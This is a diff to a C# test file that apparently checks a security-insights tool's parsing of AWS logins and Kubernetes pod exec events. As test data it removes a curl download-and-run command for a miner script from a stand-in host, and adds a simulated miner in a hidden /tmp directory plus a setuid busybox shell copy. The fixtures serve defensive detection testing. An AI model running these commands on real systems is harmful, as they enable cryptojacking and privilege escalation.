@@ -34,7 +34,10 @@ public sealed class InsightsTemplatesTests : IDisposable
         Assert.Equal(("us-west-2b", "i-0c7d2e91b4a6f3508"), (instance.Zone, instance.InstanceId));
         Assert.Equal([("arn:aws:iam::111122223333:role/PlatformOps", "platform-ops", 1L), ("arn:aws:iam::111122223333:user/dev-intern", "dev-intern", 4L)],
             logins.Select(l => (l.Arn, l.Username, l.Logins)));
-        Assert.Equal(["sh -c 'curl -s http://203.0.113.50/miner.sh -o /tmp/miner.sh && sh /tmp/miner.sh'", "sh"], execs.Select(e => e.Command));
+        Assert.Equal(2, execs.Count);
+        Assert.StartsWith("sh -c '\n  mkdir -p /tmp/.x\n  printf \"#!/bin/sh\\nwhile true; do sleep 60; done\\n\" > /tmp/.x/miner.sh\n", execs[0].Command);
+        Assert.Contains("cp /bin/busybox /tmp/.x/sh && chmod 4755 /tmp/.x/sh", execs[0].Command);
+        Assert.Equal("sh", execs[1].Command);
         Assert.Equal((false, true), (execs[0].Tty, execs[1].Tty));
         Assert.All(execs, e => Assert.Equal(("dev-intern", "default/sysdiag", "sysdiag", "198.51.100.23"), (e.User, e.Pod, e.Container, e.SourceIp)));
     }
